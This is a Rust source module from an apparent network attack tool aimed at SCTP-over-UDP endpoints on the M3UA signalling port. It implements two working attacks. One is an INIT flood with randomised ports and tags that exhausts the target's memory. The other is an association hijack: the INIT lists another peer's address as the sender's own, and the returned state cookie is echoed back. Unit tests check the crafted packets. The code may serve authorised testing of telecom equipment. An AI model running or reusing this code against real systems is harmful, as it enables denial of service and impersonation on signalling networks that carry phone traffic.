//! SCTP associations in UDP (RFC 6951) whose INIT names the address of somebody else among its own
//! (RFC 9260 §3.3.2.1.1): who takes that for proof gives the stranger the other's place.
//!
//! ```text
//!   INIT (address of the other) ─→   INIT ACK ←─   COOKIE ECHO ─→   and the next one
//! ```
//! Or INITs alone, each as if from another peer: what is kept for them is memory that nobody asks
//! back.

use crate::datagrams;
use crate::sockets::{Numbers, Pace, SocketAttack};
use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

/// M3UA's port (RFC 4666 §1.4.8), where the target listens.
const M3UA: u16 = 2_905;
/// Common header: ports, verification tag, checksum.
const HEADER: usize = 12;
const INIT: u8 = 1;
const INIT_ACK: u8 = 2;
const COOKIE_ECHO: u8 = 10;
/// Fixed octets of an INIT chunk with its header.
const INIT_FIXED: usize = 20;
const STATE_COOKIE: u16 = 7;
/// Time for an answer.
const PATIENCE: Duration = Duration::from_millis(100);
const DATAGRAM_MAX: usize = 4_096;
/// Datagrams that are looked at for the answer.
const LOOKS_MAX: usize = 8;

/// CRC32c (RFC 9260 Appendix A), bit by bit.
fn crc32c(bytes: &[u8]) -> u32 {
    let mut sum = u32::MAX;
    for byte in bytes {
        sum ^= u32::from(*byte);
        for _ in 0..8 {
            let carry = sum & 1;
            sum = (sum >> 1) ^ (0x82f6_3b78 & carry.wrapping_neg());
        }
    }
    !sum
}

/// A packet of one chunk.
fn packet(port: u16, tag: u32, kind: u8, value: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(HEADER + 4 + value.len() + 3);
    out.extend_from_slice(&port.to_be_bytes());
    out.extend_from_slice(&M3UA.to_be_bytes());
    out.extend_from_slice(&tag.to_be_bytes());
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&[kind, 0]);
    let length = u16::try_from(4 + value.len()).unwrap_or(u16::MAX);
    out.extend_from_slice(&length.to_be_bytes());
    out.extend_from_slice(value);
    out.resize(out.len().next_multiple_of(4), 0);
    let sum = crc32c(&out);
    out[8..HEADER].copy_from_slice(&sum.to_le_bytes());
    out
}

/// An INIT, that names `other` as an address of its sender where there is one.
fn init(port: u16, tag: u32, other: Option<Ipv4Addr>) -> Vec<u8> {
    let mut value = Vec::with_capacity(32);
    value.extend_from_slice(&tag.to_be_bytes());
    value.extend_from_slice(&65_536u32.to_be_bytes()); // window
    value.extend_from_slice(&[0, 10, 0, 10]); // streams
    value.extend_from_slice(&tag.to_be_bytes()); // first TSN
    if let Some(other) = other {
        value.extend_from_slice(&[0, 5, 0, 8]); // IPv4 Address
        value.extend_from_slice(&other.octets());
    }
    packet(port, 0, INIT, &value)
}

/// The tag and the State Cookie of an INIT ACK.
fn answer(packet: &[u8]) -> Option<(u32, &[u8])> {
    let chunk = packet.get(HEADER..)?;
    let whole = usize::from(u16::from_be_bytes([*chunk.get(2)?, *chunk.get(3)?]));
    if *chunk.first()? != INIT_ACK {
        return None;
    }
    let tag = u32::from_be_bytes(*chunk.get(4..)?.first_chunk()?);
    let mut rest = chunk.get(INIT_FIXED..whole)?;
    loop {
        let [a, b, c, d] = *rest.first_chunk()?;
        let (kind, length) = (u16::from_be_bytes([a, b]), usize::from(u16::from_be_bytes([c, d])));
        if kind == STATE_COOKIE {
            return Some((tag, rest.get(4..length)?));
        }
        rest = rest.get(length.max(4).next_multiple_of(4)..)?;
    }
}

/// Source port and Initiate Tag of an association.
fn names(random: &mut Numbers) -> (u16, u32) {
    let [high, low, ..] = random.next().to_be_bytes();
    (u16::from_be_bytes([high | 0x80, low]), u32::from_be_bytes([high, low, 1, 1]))
}

/// INITs alone.
pub(crate) fn flood(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut random = Numbers::new(8);
    datagrams::send(attack, pace, |_, _, out| {
        let (port, tag) = names(&mut random);
        out.extend_from_slice(&init(port, tag, None));
    })
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let other = *attack.other()?.ip();
    let mut random = Numbers::new(5);
    let mut bytes = [0; DATAGRAM_MAX];
    while let Some(due) = pace.due() {
        for _ in 0..due {
            let source = attack.sources.pick(random.next());
            let socket = UdpSocket::bind((source, 0))?;
            socket.set_read_timeout(Some(PATIENCE))?;
            let (port, tag) = names(&mut random);
            let first = init(port, tag, Some(other));
            if socket.send_to(&first, attack.target).is_err() {
                continue;
            }
            pace.sent(first.len());
            for _ in 0..LOOKS_MAX {
                let Ok((length, _)) = socket.recv_from(&mut bytes) else { break };
                let Some((tag, cookie)) = answer(&bytes[..length]) else { continue };
                let second = packet(port, tag, COOKIE_ECHO, cookie);
                // Nobody hears whether it was taken: the good traffic shows it.
                let _ = socket.send_to(&second, attack.target);
                break;
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use sctp::codec::{Chunk, Packet, Parameter};

    #[test]
    fn the_greeting_names_an_address_that_is_not_its_own() {
        let other = Ipv4Addr::new(127, 0, 0, 21);
        let bytes = init(40_000, 77, Some(other));
        let packet = Packet::read(&bytes).unwrap();
        assert!(packet.checksum_holds());
        assert_eq!((packet.header.verification_tag, packet.header.source_port), (0, 40_000));
        let raw = packet.chunks().next().unwrap().unwrap();
        let Chunk::Init(read) = Chunk::read(&raw).unwrap() else { panic!("an INIT") };
        let named: Vec<_> = read.parameters.iter().map(Result::unwrap).collect();
        assert_eq!(named, [Parameter::Address(other.into())]);
    }

    #[test]
    fn a_flood_is_of_whole_greetings_that_differ() {
        let (all, sources) = crate::datagrams::tests::arrived(crate::SocketKind::InitFlood);
        let mut tags = std::collections::BTreeSet::new();
        for bytes in &all {
            let packet = Packet::read(bytes).unwrap();
            assert!(packet.checksum_holds());
            let raw = packet.chunks().next().unwrap().unwrap();
            let Chunk::Init(read) = Chunk::read(&raw).unwrap() else { panic!("an INIT") };
            assert_eq!(read.parameters.iter().count(), 0);
            tags.insert((packet.header.source_port, read.initiate_tag));
        }
        assert!(tags.len() == all.len() && sources > 1, "{} of {}", tags.len(), all.len());
    }

    #[test]
    fn the_cookie_comes_back_as_it_came() {
        let mut value = vec![0, 0, 0, 9, 0, 1, 0, 0, 0, 10, 0, 10, 0, 0, 0, 1];
        value.extend([0x80, 8, 0, 5, 64, 0, 0, 0]); // another parameter, padded
        value.extend([0, 7, 0, 9, 1, 2, 3, 4, 5, 0, 0, 0]);
        let ack = packet(M3UA, 7, INIT_ACK, &value);
        assert_eq!(answer(&ack), Some((9, &[1u8, 2, 3, 4, 5][..])));
        let echo = packet(40_000, 9, COOKIE_ECHO, &[1, 2, 3, 4, 5]);
        let read = Packet::read(&echo).unwrap();
        assert!(read.checksum_holds());
        let raw = read.chunks().next().unwrap().unwrap();
        assert_eq!(Chunk::read(&raw).unwrap(), Chunk::CookieEcho(&[1, 2, 3, 4, 5]));
        for cut in 0..ack.len() {
            let _ = answer(&ack[..cut]);
        }
    }
}
